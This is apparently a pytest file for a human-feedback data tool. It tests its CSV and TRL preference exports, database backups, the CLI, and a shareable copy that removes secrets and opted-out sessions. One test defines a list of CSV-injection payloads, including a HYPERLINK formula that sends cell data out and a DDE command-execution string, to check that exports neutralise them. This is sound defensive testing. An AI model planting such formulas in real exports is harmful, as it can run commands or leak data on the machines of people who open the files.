"""Filtered exports, the consistent database copy and the ``python -m feedback`` CLI."""

from __future__ import annotations

import csv
import json
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path

from feedback import export
from feedback.registry import Registry
from tests.factories import populate

ROOT = Path(__file__).resolve().parents[2]


def filled(store):
    registry = Registry(store)
    registry.register_version(version_id="sft", path="/nowhere", kind="sft")
    return populate(store, registry, "/nowhere")


def test_trl_and_csv_exports_filter_and_skip_excluded_and_opted_out(store, tmp_path):
    ids = filled(store)
    assert export.export_trl(store, tmp_path / "all.jsonl") == 3  # b, a, edit; both_bad has no order
    store.set_excluded("comparison", [ids["comparison0"]], True, "noise", "tester")
    assert export.export_trl(store, tmp_path / "a.jsonl") == 2
    assert export.export_trl(store, tmp_path / "b.jsonl", include_excluded=True) == 3
    assert export.export_trl(store, tmp_path / "c.jsonl", {"session": "bob"}) == 2
    rec = json.loads((tmp_path / "c.jsonl").read_text().splitlines()[0])
    assert rec["prompt"][-1] == {"role": "user", "content": "Write a haiku about rain"}
    n = export.export_csv(store, tmp_path / "all.csv")
    rows = list(csv.DictReader(open(tmp_path / "all.csv", encoding="utf-8")))
    assert n == len(rows) == 6 and ids["comparison0"] not in {r["id"] for r in rows}
    down = {r["id"]: r for r in rows}[ids["rating0"]]
    assert down["reasons"] == "inaccurate" and down["comment"] == "wrong city" and down["a_version"] == "sft"
    assert export.export_csv(store, tmp_path / "d.csv", {"kinds": ["down"]}) == 2
    store.set_opt_out("sess-alice", True)
    assert export.export_csv(store, tmp_path / "e.csv", include_excluded=True) == 3  # bob's only


def test_backup_is_consistent_while_the_app_writes(store, tmp_path):
    filled(store)
    stop = threading.Event()

    def writer():
        i = 0
        while not stop.is_set():
            store.set_state(f"k{i % 50}", i)
            i += 1

    t = threading.Thread(target=writer)
    t.start()
    try:
        for k in range(3):
            copy = export.backup_db(store.path, tmp_path / f"copy{k}.sqlite")
            with sqlite3.connect(copy) as conn:
                assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
                assert conn.execute("SELECT COUNT(*) FROM comparisons").fetchone() == (4,)
    finally:
        stop.set()
        t.join()


def run_cli(*args, stdin: str = "") -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "feedback", *args], cwd=ROOT, input=stdin, text=True,
                          capture_output=True, timeout=120)


def test_cli(store, tmp_path):
    ids = filled(store)
    store.set_excluded("rating", [ids["rating0"]], True, "noise", "tester")
    db = str(store.path)
    assert "export" in run_cli("--help").stdout
    assert "--include-excluded" in run_cli("export", "--help").stdout
    r = run_cli("--db", db, "export", "csv", "--out", str(tmp_path / "x.csv"), "--kind", "down")
    assert r.returncode == 0, r.stderr
    assert "wrote 1 judgements" in r.stdout  # rating0 is excluded, rating2 remains
    r = run_cli("--db", db, "export", "csv", "--out", str(tmp_path / "y.csv"), "--kind", "down", "--include-excluded")
    assert "wrote 2 judgements" in r.stdout
    r = run_cli("--db", db, "export", "trl", "--out", str(tmp_path / "x.jsonl"), "--session", "alice")
    assert "wrote 1 preference pairs" in r.stdout, r.stderr
    r = run_cli("--db", db, "export", "db", "--out", str(tmp_path / "copy.sqlite"))
    assert r.returncode == 0 and (tmp_path / "copy.sqlite").exists()
    r = run_cli("--db", db, "add-user", "maria", "--password-stdin", stdin="a long password\n")
    assert r.returncode == 0, r.stderr
    assert "maria\tmaintainer" in run_cli("--db", db, "users").stdout
    from feedback.auth import ConsoleAuth
    console_auth = ConsoleAuth(store)  # no settings password: only the users table
    assert console_auth.check(console_auth.login("maria", "a long password")) == "maria"


FORMULAS = ['=HYPERLINK("http://x/?"&A2,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd", "\tx=1", "\r=1+1"]


def test_csv_cells_cannot_start_a_formula(store, tmp_path):
    """OWASP CSV injection: a cell starting with = + - @, a tab or a carriage return is
    prefixed with a single quote, so a spreadsheet shows it as text instead of running it."""
    store.ensure_session("sess-eve", user="=cmd")
    conv = store.start_conversation("sess-eve", "You are a helpful AI assistant.")
    for n, text in enumerate(FORMULAS):
        ctx = [{"role": "user", "content": text}]
        store.set_message(conv, 2 * n + 1, "user", text)
        gen = [store.record_generation(session_id="sess-eve", conversation_id=conv, turn=2 * n + 2, context=ctx,
                                       content=answer, model_version="sft", sampling={}, prompt_tokens=1,
                                       completion_tokens=1, ttft_ms=1.0, latency_ms=1.0, finish_reason="stop")
               for answer in (text, "plain answer")]
        comp = store.open_comparison(session_id="sess-eve", conversation_id=conv, turn=2 * n + 2,
                                     a_generation_id=gen[0], b_generation_id=gen[1])
        store.decide_comparison(comp, "a", "sess-eve")
        store.record_rating(session_id="sess-eve", generation_id=gen[0], thumb="down", comment=text)
    assert export.export_csv(store, tmp_path / "x.csv") == 2 * len(FORMULAS)
    rows = list(csv.DictReader(open(tmp_path / "x.csv", encoding="utf-8", newline="")))
    cells = [v for row in rows for v in row.values() if v]
    assert not [v for v in cells if v[0] in "=+-@\t\r"]
    assert {r["prompt"] for r in rows} == {"'" + text for text in FORMULAS}  # kept, only defused
    assert {r["comment"] for r in rows if r["record_type"] == "rating"} == {"'" + text for text in FORMULAS}
    assert {r["user"] for r in rows} == {"'=cmd"} and {r["b_text"] for r in rows} >= {"plain answer"}


def test_shareable_copy_leaves_out_users_secrets_and_opted_out_sessions(store, tmp_path):
    ids = filled(store)
    from assistant.ui import browser_storage
    from feedback import auth
    auth.add_user(store, "maria", "long enough pw")
    digest = auth.user_row(store, "maria")["password_hash"].rsplit("$", 1)[-1]
    secret = browser_storage(store)["secret"]  # encrypts every browser's key
    store.contributor_of("203.0.113.5")  # makes the contributor salt
    salt = store.get_state("contributor_salt")
    store.set_opt_out("sess-alice", True)
    copy = export.shareable_db_copy(store.path, tmp_path / "copy.sqlite")
    raw = copy.read_bytes()
    assert digest.encode() not in raw and b"sess-alice" not in raw
    assert secret.encode() not in raw and salt.encode() not in raw
    assert b"capital of France" not in raw and b"Explain recursion" not in raw and b"haiku" in raw
    with sqlite3.connect(copy) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert conn.execute("SELECT COUNT(*) FROM users").fetchone() == (0,)
        assert conn.execute("SELECT id FROM sessions").fetchall() == [("sess-bob",)]
        assert {r[0] for r in conn.execute("SELECT id FROM comparisons")} == {ids["comparison1"], ids["edit"]}
        assert conn.execute("SELECT COUNT(*) FROM model_versions").fetchone() == (2,)
    from feedback.store import FeedbackStore
    FeedbackStore(copy).close()  # the app can open it: same schema version
    # the full backup (operators' CLI) keeps everything
    full = export.backup_db(store.path, tmp_path / "full.sqlite")
    with sqlite3.connect(full) as conn:
        assert conn.execute("SELECT COUNT(*) FROM users").fetchone() == (1,)
        assert conn.execute("SELECT COUNT(*) FROM app_state WHERE key IN ('browser_storage', 'contributor_salt')"
                            ).fetchone() == (2,)
